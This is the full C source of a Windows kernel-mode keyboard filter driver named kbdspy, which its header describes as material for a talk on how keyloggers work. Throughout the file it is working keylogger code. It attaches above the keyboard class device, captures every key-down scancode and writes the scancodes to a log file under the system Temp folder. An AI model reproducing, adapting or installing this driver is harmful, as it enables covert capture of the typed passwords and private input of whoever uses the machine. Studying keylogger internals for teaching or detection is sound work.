/*
 * kbdspy.c - keyboard filter driver (legacy style, attaches on top of
 * \Device\KeyboardClass0) that logs make codes to
 * \SystemRoot\Temp\kbdspy.log.  For my "how keyloggers work" talk.
 *
 * Reads are completed at DISPATCH_LEVEL so the completion routine only
 * pushes the scancodes into a ring buffer; a system thread writes the file.
 */
#include <ntddk.h>
#include <ntddkbd.h>

#define KS_RING_SIZE    512
#define KS_LOG_PATH     L"\\SystemRoot\\Temp\\kbdspy.log"

typedef struct _KS_EXTENSION {
    PDEVICE_OBJECT LowerDevice;
} KS_EXTENSION, *PKS_EXTENSION;

DRIVER_INITIALIZE DriverEntry;
DRIVER_UNLOAD KsUnload;
DRIVER_DISPATCH KsPassThrough;
DRIVER_DISPATCH KsRead;
IO_COMPLETION_ROUTINE KsReadComplete;
KSTART_ROUTINE KsLoggerThread;

PDEVICE_OBJECT   g_FilterDevice = NULL;
volatile LONG    g_PendingIrps = 0;
volatile BOOLEAN g_StopLogger = FALSE;
KEVENT           g_KeyEvent;
KSPIN_LOCK       g_RingLock;
USHORT           g_Ring[KS_RING_SIZE];
ULONG            g_RingHead = 0;
ULONG            g_RingTail = 0;

NTSTATUS KsPassThrough(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKS_EXTENSION ext = (PKS_EXTENSION)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(ext->LowerDevice, Irp);
}

NTSTATUS KsReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    PKEYBOARD_INPUT_DATA keys;
    ULONG count, i;
    KIRQL irql;

    UNREFERENCED_PARAMETER(DeviceObject);
    UNREFERENCED_PARAMETER(Context);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        keys = (PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer;
        count = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));

        KeAcquireSpinLock(&g_RingLock, &irql);
        for (i = 0; i < count; i++) {
            if (keys[i].Flags & KEY_BREAK) {
                continue;   // only key down
            }
            g_Ring[g_RingHead] = keys[i].MakeCode;
            g_RingHead = (g_RingHead + 1) % KS_RING_SIZE;
            if (g_RingHead == g_RingTail) {
                g_RingTail = (g_RingTail + 1) % KS_RING_SIZE;   // overwrite oldest
            }
        }
        KeReleaseSpinLock(&g_RingLock, irql);

        if (count > 0) {
            KeSetEvent(&g_KeyEvent, IO_NO_INCREMENT, FALSE);
        }
    }

    if (Irp->PendingReturned) {
        IoMarkIrpPending(Irp);
    }

    InterlockedDecrement(&g_PendingIrps);
    return Irp->IoStatus.Status;
}

NTSTATUS KsRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKS_EXTENSION ext = (PKS_EXTENSION)DeviceObject->DeviceExtension;

    IoCopyCurrentIrpStackLocationToNext(Irp);
    IoSetCompletionRoutine(Irp, KsReadComplete, NULL, TRUE, TRUE, TRUE);

    InterlockedIncrement(&g_PendingIrps);
    return IoCallDriver(ext->LowerDevice, Irp);
}

static ULONG KsDrainRing(PCHAR Out, ULONG OutSize)
{
    KIRQL irql;
    ULONG used = 0;

    KeAcquireSpinLock(&g_RingLock, &irql);
    while (g_RingTail != g_RingHead && used + 3 <= OutSize) {
        static const char hex[] = "0123456789ABCDEF";
        USHORT code = g_Ring[g_RingTail];
        g_RingTail = (g_RingTail + 1) % KS_RING_SIZE;
        Out[used++] = hex[(code >> 4) & 0xF];
        Out[used++] = hex[code & 0xF];
        Out[used++] = ' ';
    }
    KeReleaseSpinLock(&g_RingLock, irql);

    return used;
}

VOID KsLoggerThread(PVOID StartContext)
{
    NTSTATUS status;
    HANDLE hFile = NULL;
    OBJECT_ATTRIBUTES oa;
    IO_STATUS_BLOCK iosb;
    UNICODE_STRING path = RTL_CONSTANT_STRING(KS_LOG_PATH);
    LARGE_INTEGER timeout;
    CHAR line[KS_RING_SIZE * 3];
    ULONG len;

    UNREFERENCED_PARAMETER(StartContext);

    InitializeObjectAttributes(&oa, &path, OBJ_CASE_INSENSITIVE | OBJ_KERNEL_HANDLE, NULL, NULL);
    status = ZwCreateFile(&hFile, FILE_APPEND_DATA | SYNCHRONIZE, &oa, &iosb, NULL,
                          FILE_ATTRIBUTE_NORMAL, FILE_SHARE_READ, FILE_OPEN_IF,
                          FILE_SYNCHRONOUS_IO_NONALERT, NULL, 0);
    if (!NT_SUCCESS(status)) {
        DbgPrint("kbdspy: cannot open log 0x%x, logging to debugger only\n", status);
        hFile = NULL;
    }

    timeout.QuadPart = -10LL * 1000 * 1000;    // 1s

    while (!g_StopLogger) {
        KeWaitForSingleObject(&g_KeyEvent, Executive, KernelMode, FALSE, &timeout);

        len = KsDrainRing(line, sizeof(line));
        if (len == 0) {
            continue;
        }
        if (hFile != NULL) {
            ZwWriteFile(hFile, NULL, NULL, NULL, &iosb, line, len, NULL, NULL);
        } else {
            DbgPrint("kbdspy: %.*s\n", len, line);
        }
    }

    if (hFile != NULL) {
        ZwClose(hFile);
    }
    PsTerminateSystemThread(STATUS_SUCCESS);
}

static VOID KsDetachAndWait(PKS_EXTENSION Ext)
{
    LARGE_INTEGER interval;

    IoDetachDevice(Ext->LowerDevice);

    // the read that is sitting in kbdclass completes on the next key press
    interval.QuadPart = -10 * 1000 * 100;
    while (g_PendingIrps > 0) {
        KeDelayExecutionThread(KernelMode, FALSE, &interval);
    }
}

VOID KsUnload(PDRIVER_OBJECT DriverObject)
{
    PKS_EXTENSION ext = (PKS_EXTENSION)g_FilterDevice->DeviceExtension;

    UNREFERENCED_PARAMETER(DriverObject);

    DbgPrint("kbdspy: unloading, press a key if this hangs\n");

    KsDetachAndWait(ext);

    g_StopLogger = TRUE;
    KeSetEvent(&g_KeyEvent, IO_NO_INCREMENT, FALSE);

    IoDeleteDevice(g_FilterDevice);
    g_FilterDevice = NULL;
}

NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    NTSTATUS status;
    UNICODE_STRING kbdName = RTL_CONSTANT_STRING(L"\\Device\\KeyboardClass0");
    PKS_EXTENSION ext;
    HANDLE hThread = NULL;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) {
        DriverObject->MajorFunction[i] = KsPassThrough;
    }
    DriverObject->MajorFunction[IRP_MJ_READ] = KsRead;
    DriverObject->DriverUnload = KsUnload;

    KeInitializeEvent(&g_KeyEvent, SynchronizationEvent, FALSE);
    KeInitializeSpinLock(&g_RingLock);

    status = IoCreateDevice(DriverObject, sizeof(KS_EXTENSION), NULL,
                            FILE_DEVICE_KEYBOARD, 0, FALSE, &g_FilterDevice);
    if (!NT_SUCCESS(status)) {
        DbgPrint("kbdspy: IoCreateDevice failed 0x%x\n", status);
        return status;
    }

    ext = (PKS_EXTENSION)g_FilterDevice->DeviceExtension;
    RtlZeroMemory(ext, sizeof(KS_EXTENSION));

    status = IoAttachDevice(g_FilterDevice, &kbdName, &ext->LowerDevice);
    if (!NT_SUCCESS(status)) {
        DbgPrint("kbdspy: IoAttachDevice(%wZ) failed 0x%x\n", &kbdName, status);
        return status;
    }

    g_FilterDevice->Flags |= ext->LowerDevice->Flags & (DO_BUFFERED_IO | DO_DIRECT_IO | DO_POWER_PAGABLE);
    g_FilterDevice->Flags &= ~DO_DEVICE_INITIALIZING;

    status = PsCreateSystemThread(&hThread, THREAD_ALL_ACCESS, NULL, NULL, NULL, KsLoggerThread, NULL);
    if (!NT_SUCCESS(status)) {
        DbgPrint("kbdspy: PsCreateSystemThread failed 0x%x\n", status);
        KsDetachAndWait(ext);
        IoDeleteDevice(g_FilterDevice);
        g_FilterDevice = NULL;
        return status;
    }
    // we don't need the handle
    ZwClose(hThread);

    DbgPrint("kbdspy: attached to %wZ\n", &kbdName);
    return STATUS_SUCCESS;
}
